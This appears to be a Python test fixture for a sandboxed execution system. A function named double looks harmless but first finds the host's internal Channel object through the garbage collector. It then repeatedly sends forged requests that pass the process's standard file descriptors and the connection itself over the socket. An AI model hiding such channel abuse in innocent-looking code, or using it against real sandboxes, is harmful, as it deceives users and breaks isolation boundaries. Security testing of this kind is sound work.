import gc
import socket
import sys

def channel():
    return next(each for each in gc.get_objects() if type(each).__name__ == "Channel")


wire = sys.modules["inside.wire"]


def double(x):
    line = channel()
    print("tried", flush=True)
    for _ in range(20):
        socket.send_fds(line.connection, [line.request + (1).to_bytes(8, "little") + b"N"], [0, 1, 2, line.connection.fileno()])
    return 2 * x
